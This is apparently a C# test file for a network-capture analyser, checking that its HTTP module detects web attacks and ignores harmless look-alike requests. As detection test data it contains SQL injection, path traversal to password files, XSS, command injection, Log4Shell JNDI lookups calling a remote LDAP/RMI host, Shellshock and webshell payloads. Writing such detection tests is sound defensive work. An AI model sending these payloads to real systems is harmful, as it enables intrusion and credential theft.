using Pcapper.Engine;
using Pcapper.Tests.Building;
using Pcapper.Tests.Running;
using Xunit;

namespace Pcapper.Tests.Protocols.Http;

/// <summary>Attacks and what looks like them, as requests on the wire.</summary>
public sealed class WebAttackTests
{
    [Theory]
    [InlineData("/p?id=1%20UNION/**/SELECT%20a,b", "http.sql-injection")]
    [InlineData("/p?id=1%2527%2520or%25201%253D1--", "http.sql-injection")]
    [InlineData("/p?u=admin'--", "http.sql-injection")]
    [InlineData("/p?id=1+and+5=5", "http.sql-injection")]
    [InlineData("/p?f=../../../etc/passwd", "http.path-traversal")]
    [InlineData("/..%252f..%252fwindows/win.ini", "http.path-traversal")]
    [InlineData("/scripts/..%c0%af../winnt/system32/", "http.path-traversal")]
    [InlineData("/q?s=%3Cscript%3Ealert(1)%3C/script%3E", "http.cross-site-scripting")]
    [InlineData("/ping?ip=127.0.0.1%3Bcat%20/etc/passwd", "http.command-injection")]
    [InlineData("/ping?ip=%24(id)", "http.command-injection")]
    [InlineData("/p?x=%24%7bjndi:ldap://192.0.2.1/a%7d", "http.log4shell")]
    [InlineData("/p?x=$%7b$%7blower:j%7dndi:$%7b::-l%7ddap://192.0.2.1/a%7d", "http.log4shell")]
    [InlineData("/i.php?f=php://input", "http.code-injection")]
    [InlineData("/up/pic.php?cmd=whoami", "http.webshell")]
    [InlineData("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "http.known-exploit")]
    public void Attacks_in_targets_are_found(string target, string expected) => Assert.Contains(expected, Find($"GET {target} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n"));

    [Theory]
    [InlineData("/search?q=select+a+union+of+workers")]
    [InlineData("/search?q=rock+and+roll&year=1+and+2")]
    [InlineData("/a/b/../c.css")]
    [InlineData("/redirect?to=http%3A%2F%2Fwww.example%2Fa%3Fb%3Dc")]
    [InlineData("/q?name=O%27Brien&note=it%27s+5+or+6")]
    [InlineData("/shop?sort=price;asc&id=5")]
    [InlineData("/q?a=1&id=2&cat=/x&ls=3")]
    [InlineData("/q?text=dogs;+cat+food")]
    [InlineData("/q?price=$5|$10")]
    [InlineData("/t?v=%7B%22a%22:%5B1,2%5D%7D")]
    public void What_looks_alike_is_silent(string target) => Assert.Empty(Find($"GET {target} HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n"));

    [Theory]
    [InlineData("User-Agent: () { :;}; /bin/id", "http.shellshock")]
    [InlineData("X-Anything: ${jndi:rmi://192.0.2.1/x}", "http.log4shell")]
    [InlineData("Content-Type: %{(#_='multipart/form-data')}", "http.code-injection")]
    [InlineData("Cookie: id=1' union select password from users", "http.sql-injection")]
    public void Attacks_in_fields_are_found(string field, string expected) => Assert.Contains(expected, Find($"GET / HTTP/1.1\r\n{field}\r\n\r\n"));

    [Fact]
    public void Attacks_in_forms_are_found_and_documents_are_not_forms()
    {
        const string Body = "a=1&b=x%27+or+%271%27%3D%271";
        Assert.Contains("http.sql-injection", Find($"POST /f HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {Body.Length}\r\n\r\n{Body}"));
        const string Json = "{\"text\":\"it's; id | 'x' or <b>\"}";
        Assert.Empty(Find($"POST /f HTTP/1.1\r\nContent-Type: application/json\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: {Json.Length}\r\n\r\n{Json}"));
    }

    [Fact]
    public void Hostile_lengths_take_no_time()
    {
        string nested = string.Concat(Enumerable.Repeat("${lower:", 900)) + new string('}', 900);
        string percent = string.Concat(Enumerable.Repeat("%2525", 2000));
        string words = string.Concat(Enumerable.Repeat("' or ", 1500));
        foreach (string text in (string[])[nested, percent, words, new string(';', 8000), new string('$', 8000)])
        {
            Find($"GET /p?x={text.Replace(' ', '+')} HTTP/1.1\r\nX-A: {text}\r\n\r\n");
        }
    }

    private static string[] Find(string request)
    {
        byte[] capture = Capture.New().Tcp("192.0.2.5:49152", "198.51.100.9:80", c => c.Says(request).Replies("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").Closes()).ToPcap();
        RunOutcome outcome = Analysis.Of(capture, modules: new HashSet<string> { "http" });
        Assert.Empty(outcome.Problems);
        return [.. outcome.Findings.Where(f => f.Type.Module == "http").Select(f => f.Type.Id)];
    }
}
